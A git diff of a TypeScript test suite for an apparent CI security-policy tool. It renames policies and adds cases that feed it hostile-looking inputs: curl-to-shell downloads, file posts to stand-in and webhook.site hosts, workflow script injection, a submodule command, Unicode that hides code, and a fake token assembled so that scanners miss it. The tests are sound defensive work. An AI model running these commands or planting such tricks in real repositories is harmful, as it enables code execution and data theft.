@@ -4,6 +4,10 @@ import { contentKey, type FileMode, type ListedFile } from "../../../rules/chang
 import { judge } from "../../../rules/judge.ts";
 import { packSource } from "../../../rules/packs/packs.ts";
 import { loadPolicies } from "../../../rules/policy/load.ts";
+import type { Evidence } from "../../../rules/evidence.ts";
+import { buildFacts } from "../../../rules/facts/build.ts";
+import { evaluatePolicy } from "../../../rules/policy/evaluate.ts";
+import type { Policy } from "../../../rules/policy/policy-set.ts";
 import { evidenceOf } from "../sample-evidence.ts";
 
 /** One version of a file: its text or bytes, and its mode where it is no plain file. */
@@ -36,49 +40,74 @@ const title = "echo ${{ github.event.issue.title }}";
 
 const own = "version: 1\nextends: [bailiff:recommended@1]\n";
 
+/** Assembled here, so that no scanner takes this file for one that holds it. */
+const token = `ghp_${"a1B2c3D4e5F6g7H8i9J0".repeat(2).slice(0, 36)}`;
+
 const fires: readonly Case[] = [
   {
-    policy: "policy-file",
+    policy: "new-permissions",
+    when: "a job may write",
+    path: CI,
+    base: plain,
+    head: plain.replace("permissions: {}", "permissions: { contents: write }"),
+  },
+  {
+    policy: "new-permissions",
+    when: "outsiders can start a workflow",
+    path: CI,
+    base: plain,
+    head: plain.replace("on: push", "on: issue_comment"),
+  },
+  { policy: "secrets", when: "a token is written down", path: "src/a.ts", head: `"${token}"` },
+  {
+    policy: "secrets",
+    decision: "WARN",
+    when: "a token stands in a test",
+    path: "test/a.test.ts",
+    head: `"${token}"`,
+  },
+  {
+    policy: "policy-change",
     when: "the policies are weakened",
     path: ".github/bailiff.yml",
     base: own,
     head: "version: 1\npolicies: []\n",
   },
   {
-    policy: "policy-file",
+    policy: "policy-change",
     when: "the policies are deleted",
     path: ".github/bailiff.yml",
     base: own,
   },
   {
-    policy: "policy-file",
+    policy: "policy-change",
     when: "the policies become a link",
     path: ".github/bailiff.yml",
     base: own,
     head: { mode: "120000", bytes: "lax.yml" },
   },
   {
-    policy: "undeclared-permissions",
+    policy: "new-permissions",
     when: "a job declares none",
     path: CI,
     head: plain.replace("permissions: {}\n", ""),
   },
   {
-    policy: "script-injection",
+    policy: "untrusted-code",
     when: "a title is run",
     path: CI,
     base: plain,
     head: steps(run(title)),
   },
   {
-    policy: "script-injection",
+    policy: "untrusted-code",
     when: "an input becomes a title",
     path: CI,
     base: steps(run("echo ${{ inputs.title }}")),
     head: steps(run(title)),
   },
   {
-    policy: "standing-injection",
+    policy: "untrusted-code",
     decision: "WARN",
     when: "the script around a title is edited",
     path: CI,
@@ -95,21 +124,21 @@ const fires: readonly Case[] = [
     }),
   },
   {
-    policy: "called-code",
+    policy: "untrusted-code",
     decision: "WARN",
     when: "an action checks out whoever called it",
     path: "action.yml",
     head: `name: a\nruns:\n  using: composite\n  steps:\n    - uses: actions/checkout@${PIN}\n      with: { ref: "\${{ github.head_ref }}" }\n`,
   },
   {
-    policy: "unpinned-action",
+    policy: "supply-chain",
     when: "a pin becomes a tag",
     path: CI,
     base: steps(uses(`o/a@${PIN}`)),
     head: steps(uses("o/a@v1")),
   },
   {
-    policy: "mutable-action",
+    policy: "supply-chain",
     decision: "WARN",
     when: "a tag of others is added",
     path: CI,
@@ -117,7 +146,7 @@ const fires: readonly Case[] = [
     head: steps(uses("o/a@v1")),
   },
   {
-    policy: "mutable-action",
+    policy: "supply-chain",
     decision: "WARN",
     when: "a pin of GitHub's own becomes a tag",
     path: CI,
@@ -125,7 +154,7 @@ const fires: readonly Case[] = [
     head: steps(uses("actions/cache@v4")),
   },
   {
-    policy: "mutable-action",
+    policy: "supply-chain",
     decision: "WARN",
     when: "a tag is dressed as a pin",
     path: CI,
@@ -141,7 +170,7 @@ const fires: readonly Case[] = [
     head: steps(run("x ${{ secrets.KEY }}")),
   },
   {
-    policy: "minted-token",
+    policy: "new-permissions",
     decision: "WARN",
     when: "a token is made of a key",
     path: CI,
@@ -154,7 +183,7 @@ const fires: readonly Case[] = [
     ),
   },
   {
-    policy: "self-hosted-runner",
+    policy: "new-permissions",
     decision: "WARN",
     when: "a job moves to a machine of ours",
     path: CI,
@@ -162,7 +191,7 @@ const fires: readonly Case[] = [
     head: plain.replace("ubuntu-latest", "self-hosted"),
   },
   {
-    policy: "open-container",
+    policy: "new-permissions",
     when: "a container is privileged",
     path: CI,
     base: plain,
@@ -171,14 +200,14 @@ const fires: readonly Case[] = [
     }),
   },
   {
-    policy: "unsecure-commands",
+    policy: "untrusted-code",
     when: "they are allowed",
     path: CI,
     base: plain,
     head: steps(run("make"), { job: "    env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true }\n" }),
   },
   {
-    policy: "persisted-credentials",
+    policy: "secrets",
     decision: "WARN",
     when: "a checkout keeps its token again",
     path: CI,
@@ -186,7 +215,7 @@ const fires: readonly Case[] = [
     head: steps(checkout("")),
   },
   {
-    policy: "remote-script",
+    policy: "supply-chain",
     decision: "WARN",
     when: "it is piped to a shell",
     path: CI,
@@ -194,7 +223,7 @@ const fires: readonly Case[] = [
     head: steps(run("curl https://x.example/i | sh")),
   },
   {
-    policy: "sent-data",
+    policy: "secrets",
     decision: "WARN",
     when: "a file is posted",
     path: CI,
@@ -202,14 +231,14 @@ const fires: readonly Case[] = [
     head: steps(run("curl -d @f https://x.example")),
   },
   {
-    policy: "data-catcher",
+    policy: "secrets",
     when: "it goes to a catcher",
     path: CI,
     base: plain,
     head: steps(run("curl -d @f https://webhook.site/1")),
   },
   {
-    policy: "link-outside",
+    policy: "hidden-content",
     when: "a link leaves",
     path: "a",
     head: { mode: "120000", bytes: "../x" },
@@ -223,35 +252,35 @@ const fires: readonly Case[] = [
     head: { mode: "120000", bytes: "b" },
   },
   {
-    policy: "undeclared-submodule",
+    policy: "supply-chain",
     when: "nothing says whose",
     path: "a",
     head: { mode: "160000", bytes: "" },
   },
   {
-    policy: "submodule-command",
+    policy: "supply-chain",
     when: "git is to run one",
     path: ".gitmodules",
     head: '[submodule "a"]\n\tpath = a\n\turl = https://x.example\n\tupdate = !make\n',
   },
   {
-    policy: "new-submodule",
+    policy: "supply-chain",
     decision: "WARN",
     when: "one is added",
     path: ".gitmodules",
     head: '[submodule "a"]\n\tpath = a\n\turl = https://x.example\n',
   },
-  { policy: "opaque-program", when: "a program is added", path: "tool", head: elf },
-  { policy: "opaque-program", when: "an archive has the name of a text", path: "a.yml", head: zip },
+  { policy: "opaque-content", when: "a program is added", path: "tool", head: elf },
+  { policy: "opaque-content", when: "an archive has the name of a text", path: "a.yml", head: zip },
   {
-    policy: "opaque-archive",
+    policy: "opaque-content",
     decision: "WARN",
     when: "an archive is added",
     path: "a.zip",
     head: zip,
   },
   {
-    policy: "executable-program",
+    policy: "opaque-content",
     decision: "WARN",
     when: "bytes become executable",
     path: "a.zip",
@@ -259,25 +288,35 @@ const fires: readonly Case[] = [
     head: { mode: "100755", bytes: String.fromCharCode(...zip) },
   },
   {
-    policy: "generated-alone",
+    policy: "opaque-content",
     decision: "WARN",
     when: "its source is not changed",
     path: "dist/a.min.js",
     base: "1",
     head: "2",
   },
-  { policy: "misleading-name", when: "a name hides a character", path: "a\u200bb", head: "x" },
-  { policy: "hidden-text", when: "code is turned around", path: "a.js", head: "x // \u202e y\n" },
-  { policy: "hidden-text", when: "tags are hidden in prose", path: "a.md", head: "x\u{e0041}\n" },
+  { policy: "hidden-content", when: "a name hides a character", path: "a\u200bb", head: "x" },
   {
-    policy: "doubtful-text",
+    policy: "hidden-content",
+    when: "code is turned around",
+    path: "a.js",
+    head: "x // \u202e y\n",
+  },
+  {
+    policy: "hidden-content",
+    when: "tags are hidden in prose",
+    path: "a.md",
+    head: "x\u{e0041}\n",
+  },
+  {
+    policy: "hidden-content",
     decision: "WARN",
     when: "a space has no width",
     path: "a.js",
     head: "const a\u200b = 1;\n",
   },
   {
-    policy: "doubtful-text",
+    policy: "hidden-content",
     decision: "WARN",
     when: "a letter is another's",
     path: "a.js",
@@ -285,7 +324,18 @@ const fires: readonly Case[] = [
   },
 ];
 
-function policiesOf({ path, base, head }: Omit<Case, "policy" | "when">): [string, string][] {
+/** The recommended pack, one rule after the other. */
+function rules(): readonly Policy[] {
+  const pack = packSource("bailiff:recommended");
+  return loadPolicies(pack === null ? [] : [pack], false).policies;
+}
+
+function policiesOf(change: Omit<Case, "policy" | "when">): [string, string][] {
+  const { verdict } = judge(evidenceFor(change));
+  return verdict.reasons.map(({ policyId, decision }) => [policyId, decision]);
+}
+
+function evidenceFor({ path, base, head }: Omit<Case, "policy" | "when">): Evidence {
   const contents = new Map<string, Uint8Array>();
   const file = { path };
   for (const [side, version] of Object.entries({ base, head })) {
@@ -309,21 +359,22 @@ function policiesOf({ path, base, head }: Omit<Case, "policy" | "when">): [strin
   const pack = packSource("bailiff:recommended");
   const policies = loadPolicies(pack === null ? [] : [pack], false);
   const listing = { ...evidence.listing, files: [file as ListedFile] };
-  const { verdict } = judge({ ...evidence, policies, contents, listing });
-  return verdict.reasons.map(({ policyId, decision }) => [policyId, decision]);
+  return { ...evidence, policies, contents, listing };
 }
 
 test.each(fires)("$policy: $when", ({ policy, decision = "DENY", ...change }) => {
   expect(policiesOf(change)).toContainEqual([policy, decision]);
 });
 
-test("every policy of the pack is fired here or beside this", () => {
-  const pack = packSource("bailiff:recommended");
-  const ids = loadPolicies(pack === null ? [] : [pack], false).policies.map(({ id }) => id);
-  const beside = ["new-permissions", "privileged-trigger", "unread-file"];
-  expect([...new Set([...fires.map(({ policy }) => policy), ...beside])].sort()).toEqual(
-    ids.sort(),
+test("every rule of the pack is fired here, but what only a missing object fires", () => {
+  const all = rules();
+  const changes = fires.map((change) => buildFacts(evidenceFor(change)));
+  const silent = all.filter(
+    (rule) => !changes.some((facts) => evaluatePolicy(rule, facts).outcome === "fail"),
   );
+  expect(silent.map(({ message }) => message)).toEqual([
+    "{{item.path}} was not read: {{item.name}}",
+  ]);
 });
 
 test.each<Omit<Case, "policy">>([
